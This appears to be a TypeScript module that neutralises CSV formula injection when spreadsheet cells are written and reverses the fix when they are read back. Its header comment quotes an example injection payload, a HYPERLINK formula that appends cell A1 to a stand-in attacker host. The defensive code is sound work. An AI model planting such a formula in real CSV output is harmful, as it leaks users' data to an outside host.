// CSV cells for spreadsheets. Every cell we write goes through `csvCell`, and every
// cell we read back through `readCsvCell`, so an export → import round trip changes
// nothing (decision 016).
//
// Formula injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts
// with `=`, `+`, `-` or `@` (and, after a leading TAB or CR, whatever follows) as a
// formula, e.g. `=HYPERLINK("https://evil.example?"&A1, "Klicka")`. Such a cell is
// written with a leading `'`, which the spreadsheet shows as text.

/** A cell that is just a number ("-5", "+46", "3,5") is a number to Excel, never a formula. */
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Whether `s` is written with a leading `'`. A value that itself starts with `'` in
 * front of such a value is quoted again, so that reading strips exactly one `'`.
 */
export function needsNeutralising(s: string): boolean {
  if (FORMULA_START.test(s)) return !PLAIN_NUMBER.test(s);
  return s.startsWith("'") && needsNeutralising(s.slice(1));
}

/** One cell of our CSV (`;`-separated): neutralised, then quoted when it holds `;`, `"`, CR or LF. */
export function csvCell(v: unknown): string {
  const raw = v === null || v === undefined ? "" : String(v);
  const s = needsNeutralising(raw) ? `'${raw}` : raw;
  return /[;"\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** A cell as read from a CSV we may have written: the `'` that `csvCell` added is taken off again. */
export function readCsvCell(s: string): string {
  return s.startsWith("'") && needsNeutralising(s.slice(1)) ? s.slice(1) : s;
}

/** One CSV line from cells. */
export const csvLine = (cells: readonly unknown[]): string => cells.map(csvCell).join(";");
